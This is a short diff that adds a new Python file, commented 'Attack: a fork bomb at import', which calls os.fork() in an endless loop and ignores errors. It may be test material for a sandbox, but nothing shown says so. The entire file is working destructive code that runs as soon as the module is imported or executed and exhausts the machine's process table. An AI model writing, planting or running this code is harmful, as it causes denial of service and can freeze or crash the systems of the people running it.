@@ -1,0 +1,8 @@
+# Attack: a fork bomb at import.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
